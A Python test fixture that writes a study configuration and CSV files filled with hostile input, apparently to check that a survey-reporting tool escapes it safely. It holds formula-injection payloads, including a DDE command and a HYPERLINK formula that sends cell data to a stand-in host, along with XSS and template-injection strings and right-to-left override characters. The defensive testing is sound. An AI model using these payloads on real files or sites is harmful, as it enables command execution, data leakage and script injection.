"""A study whose every word is hostile: formulas, markup, characters that steer, long texts."""

from __future__ import annotations

import csv
from pathlib import Path

from ehs_eval.labels import matcher

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)',
    "%0A=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</svg><script>x</script>",
    "]]><!--",
    "&lt;b&gt; &amp; &#x41;",
    "{{ 7*7 }} {% x %}",
    "[red]x[/red] [link=http://x.example]y",
    "javascript:alert(1)",
    "$\\frac{1}{2}$",
    "' onmouseover='x",
    '" onload="x',
)
STEERING = (
    "\x1b[31mred\x1b[0m",
    "a\x00b",
    "\u202egnp.exe",
    "\x07bell",
    "\x9b2J",
    "\ufffex",
    "\u2066x",
)
HOSTILE = (*FORMULAS, *MARKUP, *STEERING)
SCALE = ["=No", "<i>Perhaps</i>", "+Yes"]


def write_study(folder: Path, texts: tuple[str, ...] = HOSTILE) -> Path:
    """Write a study that says the texts wherever it can, and its data; return the study file."""
    import tomlkit

    def said(number: int) -> str:
        return texts[number % len(texts)]

    items = {f"q{n}": said(n) for n in range(len(texts))}
    shown = [text for text in dict.fromkeys(" ".join(t.split()) for t in texts) if text]
    options = list(matcher(text for text in shown if "\x00" not in text).values())[:30]
    schools = [f"{said(n)} {n}" for n in (0, 3, 9, 17, 19)]
    schools = [school.replace("\x00", "") for school in schools]
    study = {
        "study": {
            "title": said(0),
            "about": said(17),
            "data_note": said(18),
            "waves": [
                {"name": "pre", "label": f"{said(1)} one"},
                {"name": "post", "label": f"{said(18)} two"},
            ],
        },
        "surveys": {
            "pupils": {
                "title": said(2),
                "files": {"pre": "=pre.csv", "post": "+<b>post.csv"},
                "school": "school",
                "gender": "gender",
                "respondent": "code",
                "blocks": [
                    {
                        "name": "block",
                        "title": said(3),
                        "scale": SCALE,
                        "counts": [SCALE[2]],
                        "counts_label": said(4),
                        "higher_is": "better",
                        "items": items,
                    }
                ],
                "questions": [
                    {"name": "topic", "text": said(17), "options": options, "kind": "single"},
                    {"name": "open", "text": said(0), "open": True},
                ],
                "crosstabs": [{"rows": "topic", "columns": "q0", "title": said(5)}],
            }
        },
        "outcomes": [
            {
                "name": "outcome",
                "title": said(17),
                "note": said(0),
                "evidence": [{"dataset": "pupils", "items": ["block"]}],
            }
        ],
        "report": {
            "publisher": said(0),
            "contact": said(18),
            "quotes": [{"text": t, "dataset": "pupils", "about": said(0)} for t in texts],
        },
    }
    path = folder / "study.toml"
    path.write_text(tomlkit.dumps(study), encoding="utf-8")
    for name, shift in (("=pre.csv", 0), ("+<b>post.csv", 1)):
        with (folder / name).open("w", newline="", encoding="utf-8") as file:
            writer = csv.writer(file)
            writer.writerow([*items, "topic", "open", "school", "gender", "code"])
            for row in range(60):
                answers = [SCALE[(row + shift * (row % 2) + n) % 3] for n in range(len(items))]
                topic, free = options[row % len(options)], options[row % 4]
                who = [schools[row % 5], ["=Male", "<b>Female"][row % 2], f"code{row}"]
                writer.writerow([*answers, topic, free, *who])
    return path
